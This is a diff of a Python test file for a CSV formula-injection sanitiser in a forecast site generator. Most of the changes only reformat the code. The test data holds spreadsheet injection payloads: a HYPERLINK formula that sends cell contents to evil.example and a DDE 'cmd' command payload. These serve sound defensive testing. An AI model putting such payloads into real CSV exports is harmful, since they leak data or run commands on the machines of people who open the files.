@@ -21,8 +21,18 @@ from generator.store.spreadsheet import formula_like
 from generator.timeutil import parse_ts
 
 HEADER = "question_id,probability,reasoning\n"
-HOSTILE = ['x;=HYPERLINK("http://evil.example/"&A1)', "a;+cmd|' /C calc'!A0", "b;@SUM(A1:A9)", "c;-2+3",
-           'd;"=quoted"', "e;\t=tabbed", "f\tx\t=tsv", "g\n=next line", "h\r\n@crlf", "i;;=again;=and again"]
+HOSTILE = [
+    'x;=HYPERLINK("http://evil.example/"&A1)',
+    "a;+cmd|' /C calc'!A0",
+    "b;@SUM(A1:A9)",
+    "c;-2+3",
+    'd;"=quoted"',
+    "e;\t=tabbed",
+    "f\tx\t=tsv",
+    "g\n=next line",
+    "h\r\n@crlf",
+    "i;;=again;=and again",
+]
 HARMLESS = ["plain; text", "-0.5", "a;-0.5", "x;1e-3", "", "a=b;c", "price; €5", "line\nnext"]
 
 
@@ -49,8 +59,8 @@ def test_no_piece_after_a_separator_runs_as_a_formula(cell):
 
 
 def test_the_text_is_kept_with_a_quote_before_each_neutralised_piece():
-    assert split_safe('x;=HYPERLINK("u")') == "x;'=HYPERLINK(\"u\")"
-    assert split_safe('d;"=quoted"') == "d;'\"=quoted\""
+    assert split_safe('x;=HYPERLINK("u")') == 'x;\'=HYPERLINK("u")'
+    assert split_safe('d;"=quoted"') == 'd;\'"=quoted"'
     assert split_safe("g\n=next") == "g\n'=next" and split_safe("i;;=a;=b") == "i;;'=a;'=b"
     assert [split_safe(c) for c in HARMLESS] == HARMLESS
 
@@ -66,11 +76,16 @@ def test_a_file_with_nothing_to_neutralise_comes_back_byte_for_byte():
 def test_the_rendered_site_offers_the_neutralised_csv_and_other_files_as_they_are():
     forecasts = (HEADER + 'm1,0.5,"x;=HYPERLINK(""http://evil.example"")"\n').encode()
     questions = b'{"text": "x;=HYPERLINK()"}'
-    data = SiteData(title="t", as_of=parse_ts("2026-01-01T00:00:00Z"), methodology_version="1",
-                    board=pd.DataFrame(columns=["model"]), history=pd.DataFrame(columns=["as_of", "model", "overall"]),
-                    models={}, model_scores={},
-                    downloads={"downloads/forecasts/2026-01-04/a.b.csv": forecasts,
-                               "downloads/rounds/2026-01-04/questions.json": questions})
+    data = SiteData(
+        title="t",
+        as_of=parse_ts("2026-01-01T00:00:00Z"),
+        methodology_version="1",
+        board=pd.DataFrame(columns=["model"]),
+        history=pd.DataFrame(columns=["as_of", "model", "overall"]),
+        models={},
+        model_scores={},
+        downloads={"downloads/forecasts/2026-01-04/a.b.csv": forecasts, "downloads/rounds/2026-01-04/questions.json": questions},
+    )
     files = render_site(data)
     csv_file = files[f"{GENERATED}/downloads/forecasts/2026-01-04/a.b.csv"]
     assert not [p for p in spreadsheet_pieces(csv_file) if formula_like(p)]
